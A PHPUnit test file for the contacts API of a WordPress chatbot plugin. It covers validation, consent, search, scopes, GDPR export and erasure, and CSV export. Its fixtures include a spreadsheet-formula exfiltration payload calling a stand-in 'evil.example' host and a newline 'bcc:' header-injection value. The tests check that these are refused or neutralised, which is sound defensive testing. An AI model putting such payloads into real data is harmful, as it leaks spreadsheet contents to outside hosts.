<?php
declare( strict_types=1 );

use MxChat\Contacts\Contact;
use MxChat\Contacts\Contact_Query;
use MxChat\Contacts\Csv;
use MxChat\Contacts\Personal_Data;
use MxChat\Contacts\Saving;
use MxChat\Contacts\Store;

/**
 * Contacts: who they are, what they agreed to, and how they leave.
 */
final class Contacts_Test extends Site_Test_Case {

	/** @var array<int,array{0:string,1:array}> */
	private array $events = array();

	protected function setUp(): void {
		parent::setUp();
		add_action( 'mxchat_event', array( $this, 'note_event' ), 10, 2 );
	}

	protected function tearDown(): void {
		remove_action( 'mxchat_event', array( $this, 'note_event' ) );
		parent::tearDown();
	}

	public function note_event( string $type, array $data ): void {
		$this->events[] = array( $type, $data );
	}

	public function test_a_contact_is_made_read_changed_and_deleted(): void {
		$made = $this->send( 'POST', '/contacts', array( 'email' => 'Ada@Example.com', 'name' => 'Ada Lovelace', 'attributes' => array( 'plan' => 'gold', 'seats' => 5, 'active' => true ) ) );
		$this->assertSame( 201, $made->get_status() );
		$ada = $made->get_data()['data'];
		$this->assertMatchesRegularExpression( '/^cont_[a-z0-9]+$/', $ada['id'] );
		$this->assertSame( array( 'Ada@Example.com', 'Ada Lovelace', null, null, 'api', 'live' ), array( $ada['email'], $ada['name'], $ada['consent'], $ada['consent_at'], $ada['source'], $ada['mode'] ) );
		$this->assertSame( '{"plan":"gold","seats":5,"active":true}', wp_json_encode( $ada['attributes'] ) );

		$changed = $this->send( 'PATCH', "/contacts/$ada[id]", array( 'phone' => '+44 1', 'attributes' => array( 'plan' => null, 'city' => 'London' ) ) )->get_data()['data'];
		$this->assertSame( array( 'Ada Lovelace', '+44 1' ), array( $changed['name'], $changed['phone'] ) );
		$this->assertEqualsCanonicalizing( array( 'seats' => 5, 'active' => true, 'city' => 'London' ), (array) $changed['attributes'] );
		$this->assertSame( wp_json_encode( $changed ), wp_json_encode( $this->send( 'GET', "/contacts/$ada[id]" )->get_data()['data'] ) );

		$this->assertSame( array( 'id' => $ada['id'], 'deleted' => true, 'conversations_deleted' => 0 ), $this->send( 'DELETE', "/contacts/$ada[id]" )->get_data()['data'] );
		$this->assertFailed( 404, $this->send( 'GET', "/contacts/$ada[id]" ) );
		$this->assertSame( array( 'contact.created', 'contact.updated' ), array_column( $this->events, 0 ) );
		$this->assertSame( array( 'contact_id', 'mode' ), array_keys( $this->events[0][1] ), 'thin: no address leaves the site with it' );
	}

	public function test_an_address_is_one_contact_however_it_is_written(): void {
		$this->send( 'POST', '/contacts', array( 'email' => 'ada@example.com' ) );
		foreach ( array( 'ADA@example.com', ' ada@Example.com ', 'ada@example.com' ) as $email ) {
			$this->assertFailed( 409, $this->send( 'POST', '/contacts', compact( 'email' ) ) );
		}
		$bob = $this->send( 'POST', '/contacts', array( 'email' => 'bob@example.com' ) )->get_data()['data']['id'];
		$this->assertFailed( 409, $this->send( 'PATCH', "/contacts/$bob", array( 'email' => 'Ada@example.com' ) ) );
		$this->assertSame( array( 'bob@example.com', 2 ), array( $this->send( 'GET', "/contacts/$bob" )->get_data()['data']['email'], $this->count_rows( 'contacts' ) ) );
		$this->assertSame( 200, $this->send( 'PATCH', "/contacts/$bob", array( 'email' => 'Bob@example.com' ) )->get_status(), 'its own address in other letters' );
	}

	/**
	 * @dataProvider refused_fields
	 */
	public function test_what_does_not_fit_is_refused( array $fields ): void {
		$this->assertFailed( 400, $this->send( 'POST', '/contacts', $fields + array( 'email' => 'ada@example.com' ) ) );
		$this->assertSame( 0, $this->count_rows( 'contacts' ) );
	}

	public static function refused_fields(): array {
		return array(
			'no address'                => array( array( 'email' => 'ada' ) ),
			'a second address in it'    => array( array( 'email' => "ada@example.com\nbcc:b@example.com" ) ),
			'a long address'            => array( array( 'email' => str_repeat( 'a', 190 ) . '@example.com' ) ),
			'a long name'               => array( array( 'name' => str_repeat( 'a', 192 ) ) ),
			'consent in words'          => array( array( 'consent' => 'perhaps' ) ),
			'consent in the future'     => array( array( 'consent' => true, 'consent_at' => '2999-01-01T00:00:00Z' ) ),
			'a date without consent'    => array( array( 'consent_at' => '2024-01-01T00:00:00Z' ) ),
			'a list for attributes'     => array( array( 'attributes' => array( 'gold' ) ) ),
			'an attribute in depth'     => array( array( 'attributes' => array( 'plan' => array( 'gold' ) ) ) ),
			'an attribute without name' => array( array( 'attributes' => array( '' => 'gold' ) ) ),
			'an attribute like markup'  => array( array( 'attributes' => array( '<b>' => 'gold' ) ) ),
			'a long attribute'          => array( array( 'attributes' => array( 'plan' => str_repeat( 'a', 1001 ) ) ) ),
			'too many attributes'       => array( array( 'attributes' => array_fill_keys( array_map( static fn( int $i ) => "a$i", range( 1, 51 ) ), 1 ) ) ),
			'too large attributes'      => array( array( 'attributes' => array_fill_keys( array_map( static fn( int $i ) => "a$i", range( 1, 20 ) ), str_repeat( 'a', 900 ) ) ) ),
		);
	}

	public function test_a_change_cannot_add_more_attributes_than_a_contact_may_have(): void {
		$ada = $this->send( 'POST', '/contacts', array( 'email' => 'ada@example.com', 'attributes' => array_fill_keys( array_map( static fn( int $i ) => "a$i", range( 1, 50 ) ), 1 ) ) )->get_data()['data']['id'];
		$this->assertFailed( 400, $this->send( 'PATCH', "/contacts/$ada", array( 'attributes' => array( 'b' => 1 ) ) ) );
		$this->assertSame( 200, $this->send( 'PATCH', "/contacts/$ada", array( 'attributes' => array( 'a1' => null, 'b' => 1 ) ) )->get_status() );
	}

	public function test_consent_has_its_date(): void {
		$before = gmdate( 'Y-m-d\TH:i:s\Z' );
		$ada    = $this->send( 'POST', '/contacts', array( 'email' => 'ada@example.com', 'consent' => true ) )->get_data()['data'];
		$this->assertTrue( $ada['consent'] );
		$this->assertGreaterThanOrEqual( $before, $ada['consent_at'] );
		$this->assertSame( $ada['consent_at'], $this->send( 'PATCH', "/contacts/$ada[id]", array( 'name' => 'Ada', 'consent' => true ) )->get_data()['data']['consent_at'], 'said again, it is not newer' );
		$then = $this->send( 'PATCH', "/contacts/$ada[id]", array( 'consent' => false, 'consent_at' => '2024-05-01T10:00:00+02:00' ) )->get_data()['data'];
		$this->assertSame( array( false, '2024-05-01T08:00:00Z' ), array( $then['consent'], $then['consent_at'] ) );
	}

	public function test_contacts_are_found(): void {
		$this->fill();
		$find = fn( array $query ) => array_column( $this->send( 'GET', '/contacts', $query )->get_data()['data']['items'], 'email' );
		$this->assertSame( array( 'bob@example.org' ), $find( array( 'search' => 'example.org' ) ) );
		$this->assertSame( array( 'ada@example.com' ), $find( array( 'search' => 'lovel' ) ) );
		$this->assertSame( array( 'eve@example.net' ), $find( array( 'search' => 'platinum' ) ) );
		$this->assertSame( array(), $find( array( 'search' => '100%' ) ) );
		$this->assertSame( array( 'ada@example.com' ), $find( array( 'email' => 'ADA@example.com' ) ) );
		$this->assertSame( array( 'ada@example.com' ), $find( array( 'consent' => 'yes' ) ) );
		$this->assertSame( array( 'eve@example.net', 'bob@example.org' ), $find( array( 'consent' => 'no' ) ) );
		$page = $this->send( 'GET', '/contacts', array( 'limit' => 1, 'offset' => 1, 'order' => 'asc' ) );
		$this->assertSame( array( 'bob@example.org', '3' ), array( $page->get_data()['data']['items'][0]['email'], $page->get_headers()['X-WP-Total'] ) );
		$this->assertFailed( 400, $this->send( 'GET', '/contacts', array( 'consent' => 'maybe' ) ) );
	}

	public function test_who_may_read_may_not_write(): void {
		$read  = $this->auth( array( 'contacts:read' ) );
		$write = $this->auth( array( 'contacts:write' ) );
		$this->assertSame( 200, $this->request( 'GET', '/contacts', array(), $read )->get_status() );
		$this->assertFailed( 403, $this->request( 'POST', '/contacts', array( 'email' => 'ada@example.com' ), $read ) );
		$this->assertFailed( 403, $this->request( 'GET', '/contacts', array(), $write ) );
		$this->assertFailed( 403, $this->request( 'GET', '/contacts/export', array(), $write ) );
		$ada = $this->request( 'POST', '/contacts', array( 'email' => 'ada@example.com' ), $write )->get_data()['data']['id'];
		$this->assertFailed( 403, $this->request( 'DELETE', "/contacts/$ada", array( 'with_conversations' => true ), $write ) );
		$this->assertFailed( 401, $this->request( 'GET', '/contacts' ) );
	}

	public function test_the_export_is_read_by_spreadsheets_and_executed_by_none(): void {
		$this->fill();
		$rows = $this->exported();
		$this->assertSame( array( 'id', 'email', 'name', 'phone', 'consent', 'consent_at', 'source', 'created_at', 'updated_at', 'note', 'plan' ), $rows[0] );
		$this->assertSame( array( 'ada@example.com', 'bob@example.org', 'eve@example.net' ), array_column( array_slice( $rows, 1 ), 1 ) );
		$this->assertSame( array( 'yes', '', '' ), array_column( array_slice( $rows, 1 ), 4 ) );
		$this->assertSame( array( "'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+44 1", "'@SUM(A1)", "'-1+1" ), array( $rows[2][2], $rows[1][3], $rows[2][9], $rows[3][2] ) );
	}

	/**
	 * @dataProvider cells
	 */
	public function test_a_cell_is_no_formula( string|int|float|bool|null $value, string $line ): void {
		$this->assertSame( $line . "\r\n", Csv::line( array( $value ) ) );
	}

	public static function cells(): array {
		return array(
			'equals'            => array( '=1+1', '"\'=1+1"' ),
			'plus'              => array( '+1', '"\'+1"' ),
			'minus'             => array( '-1', '"\'-1"' ),
			'at'                => array( '@a', '"\'@a"' ),
			'tab'               => array( "\t=1", "\"'\t=1\"" ),
			'carriage return'   => array( "\r=1", "\"'\r=1\"" ),
			'line feed'         => array( "\n=1", "\"'\n=1\"" ),
			'a wide equals'     => array( '＝1', '"\'＝1"' ),
			'a quote'           => array( '"=1', '"""=1"' ),
			'a semicolon'       => array( 'a;=1', '"a;=1"' ),
			'a number'          => array( -5, '"-5"' ),
			'a fraction'        => array( 0.1, '"0.1"' ),
			'a truth'           => array( true, '"yes"' ),
			'nothing'           => array( null, '""' ),
		);
	}

	public function test_an_export_of_many_takes_no_more_memory_than_one_of_few(): void {
		global $wpdb;
		$rows = array();
		for ( $i = 0; $i < 6000; $i++ ) {
			$rows[] = $wpdb->prepare( '(%s, 0, %s, %s, %s, %s, %s, %s)', "cont_$i", "p$i@example.com", "p$i@example.com", str_repeat( 'n', 150 ), '{"note":"' . str_repeat( 'x', 800 ) . '"}', '2026-01-01 00:00:00', '2026-01-01 00:00:00' );
		}
		foreach ( array_chunk( $rows, 200 ) as $some ) {
			$wpdb->query( 'INSERT INTO ' . MxChat\Schema::table( 'contacts' ) . ' (contact_id, is_test, email, email_key, name, attributes, created_at, updated_at) VALUES ' . implode( ',', $some ) );
		}
		unset( $rows );
		$context = ( new ReflectionClass( MxChat\Rest\Context::class ) )->newInstanceWithoutConstructor();
		( new ReflectionProperty( $context, 'token' ) )->setValue( $context, null );
		$query = Contact_Query::from( array( 'consent' => 'any', 'mode' => 'live', 'limit' => 100, 'offset' => 0, 'order' => 'asc' ), $context );
		$wpdb->queries = array();
		$before        = memory_get_usage();
		$most          = 0;
		$lines         = 0;
		foreach ( Csv::lines( $query ) as $line ) {
			$lines += (int) ( $line !== '' );
			$most   = max( $most, memory_get_usage() - $before );
		}
		$this->assertSame( 6001, $lines );
		// All of them are above 6 MB of text.
		$this->assertLessThan( 5_000_000, $most );
	}

	public function test_a_note_of_a_visitor_adds_to_what_is_known(): void {
		$session = $this->start_session();
		do_action( 'mxchat_event', 'conversation.created', array( 'session_id' => $session['session_id'], 'bot_id' => 'default' ) );
		$first  = Saving::note( 'ada@example.com', array( 'name' => 'Ada' ), '', false, 'action' );
		$second = Saving::note( 'ADA@example.com', array( 'consent' => true, 'attributes' => array( 'plan' => 'gold' ) ), $session['session_id'], false, 'action' );
		$this->assertSame( array( $first->contact_id, 'Ada', true ), array( $second->contact_id, $second->name, $second->has_consent ) );
		$this->assertSame( array( 'rest_invalid_param', 1 ), array( Saving::note( 'nobody', array(), '', false, 'action' )->get_error_code(), $this->count_rows( 'contacts' ) ) );
		$linked = $this->request( 'GET', '/conversations', array( 'contact_id' => $first->contact_id ), $this->auth( array( 'chat:write', 'transcripts:read' ) ) );
		$this->assertSame( 1, $linked->get_data()['data']['total'] );
	}

	public function test_a_contact_leaves_with_what_it_said_if_that_is_wanted(): void {
		foreach ( array( true, false ) as $with_conversations ) {
			$auth  = $this->auth( MxChat\Rest\Route::SCOPES );
			$ada   = $this->request( 'POST', '/contacts', array( 'email' => 'ada@example.com' ), $auth )->get_data()['data']['id'];
			$name  = 'mine-' . (int) $with_conversations;
			$this->request( 'POST', '/conversations', array( 'sessionId' => $name, 'contact_id' => $ada ), $auth );
			$this->request( 'POST', '/bot/default', array( 'message' => 'Hi', 'sessionId' => $name ), $auth );
			$deleted = $this->request( 'DELETE', "/contacts/$ada", compact( 'with_conversations' ), $auth )->get_data()['data'];
			$this->assertSame( (int) $with_conversations, $deleted['conversations_deleted'] );
			$this->assertSame( $with_conversations ? 0 : 2, $this->count_rows( 'transcripts' ) );
		}
		$this->assertNull( $this->request( 'GET', '/conversations', array(), $auth )->get_data()['data']['items'][0]['contact_id'] );
	}

	public function test_wordpress_exports_and_erases_a_contact(): void {
		$auth = $this->auth( MxChat\Rest\Route::SCOPES );
		$ada  = $this->request( 'POST', '/contacts', array( 'email' => 'ada@example.com', 'name' => 'Ada', 'consent' => true, 'attributes' => array( 'plan' => 'gold' ) ), $auth )->get_data()['data'];
		$this->request( 'POST', '/conversations', array( 'sessionId' => 'mine', 'contact_id' => $ada['id'] ), $auth );
		$this->request( 'POST', '/bot/default', array( 'message' => 'Hi', 'sessionId' => 'mine' ), $auth );
		$exported = Personal_Data::export( 'Ada@example.com' );
		$values   = array_column( $exported['data'][0]['data'], 'value', 'name' );
		$this->assertSame( array( true, 'Ada', 'Given', $ada['consent_at'], 'gold' ), array( $exported['done'], $values['Name'], $values['Consent'], $values['Time of consent'], $values['plan'] ) );
		$this->assertTrue( Personal_Data::erase( 'Ada@example.com' )['items_removed'] );
		$this->assertSame( array( 0, 0, 0 ), array( $this->count_rows( 'contacts' ), $this->count_rows( 'conversations' ), $this->count_rows( 'transcripts' ) ) );
		$this->assertFalse( Personal_Data::erase( 'Ada@example.com' )['items_removed'] );
		$this->assertArrayHasKey( 'mxchat-contacts', apply_filters( 'wp_privacy_personal_data_erasers', array() ) );
		$this->assertArrayHasKey( 'mxchat-contacts', apply_filters( 'wp_privacy_personal_data_exporters', array() ) );
	}

	public function test_contacts_are_kept_as_long_as_the_owner_says(): void {
		global $wpdb;
		$this->fill();
		$wpdb->update( MxChat\Schema::table( 'contacts' ), array( 'updated_at' => gmdate( 'Y-m-d H:i:s', time() - 40 * DAY_IN_SECONDS ) ), array( 'email' => 'ada@example.com' ) );
		Store::delete_old();
		$this->assertSame( 3, $this->count_rows( 'contacts' ), 'for ever, unless the owner says how long' );
		MxChat\Settings\Store::set( 'contact_retention_days', 30 );
		Store::delete_old();
		$this->assertSame( array( null, 2 ), array( Store::find_by_email( 'ada@example.com', false ), $this->count_rows( 'contacts' ) ) );
	}

	public function test_of_two_changes_at_once_neither_undoes_the_other(): void {
		$ada   = $this->send( 'POST', '/contacts', array( 'email' => 'ada@example.com', 'attributes' => array( 'plan' => 'gold' ) ) )->get_data()['data']['id'];
		$other = function ( string $sql ) use ( &$other, $ada ): string {
			if ( preg_match( '/^UPDATE .*mxchat_contacts/', $sql ) ) {
				remove_filter( 'query', $other );
				$this->send( 'PATCH', "/contacts/$ada", array( 'phone' => '+44 1', 'attributes' => array( 'city' => 'London' ) ) );
			}
			return $sql;
		};
		add_filter( 'query', $other );
		$changed = $this->send( 'PATCH', "/contacts/$ada", array( 'name' => 'Ada', 'attributes' => array( 'plan' => 'platinum' ) ) )->get_data()['data'];
		remove_filter( 'query', $other );
		$this->assertSame( array( 'Ada', '+44 1' ), array( $changed['name'], $changed['phone'] ) );
		$this->assertEqualsCanonicalizing( array( 'plan' => 'platinum', 'city' => 'London' ), (array) $changed['attributes'] );
	}

	private function fill(): void {
		Saving::insert( $this->contact( 'ada@example.com', 'Ada Lovelace', array(), true, '+44 1' ) );
		Saving::insert( $this->contact( 'bob@example.org', '=HYPERLINK("http://evil.example/?"&A1)', array( 'note' => '@SUM(A1)' ) ) );
		Saving::insert( $this->contact( 'eve@example.net', '-1+1', array( 'plan' => 'platinum' ) ) );
	}

	private function contact( string $email, string $name, array $attributes, ?bool $has_consent = null, string $phone = '' ): Contact {
		$now = gmdate( 'Y-m-d H:i:s' );
		return new Contact( Contact::mint_id(), false, $email, $name, $phone, $attributes, $has_consent, $has_consent === null ? null : $now, 'api', $now, $now );
	}

	/**
	 * The export as a program reads it.
	 *
	 * @return array<int,string[]>
	 */
	private function exported(): array {
		$response = $this->send( 'GET', '/contacts/export' );
		$this->assertSame( 'text/csv; charset=utf-8', $response->get_headers()['Content-Type'] );
		$stream = fopen( 'php://memory', 'w+' );
		fwrite( $stream, substr( implode( '', iterator_to_array( $response->lines(), false ) ), 3 ) );
		rewind( $stream );
		$rows = array();
		while ( is_array( $row = fgetcsv( $stream, null, ',', '"', '' ) ) ) {
			$rows[] = $row;
		}
		return $rows;
	}

	private function send( string $method, string $path, array $params = array() ): WP_REST_Response {
		return $this->request( $method, $path, $params, $this->auth( array( 'contacts:read', 'contacts:write' ) ) );
	}

	private function auth( array $scopes ): array {
		return array( 'Authorization' => 'Bearer ' . $this->mint_token( $scopes ) );
	}

	private function assertFailed( int $status, WP_REST_Response $response ): void {
		$code = array( 401 => 'INVALID_API_KEY', 403 => 'INVALID_API_KEY' )[ $status ] ?? 'INVALID_REQUEST';
		$this->assertSame( array( $status, false, $code ), array( $response->get_status(), $response->get_data()['success'], $response->get_data()['error']['code'] ?? null ) );
	}
}
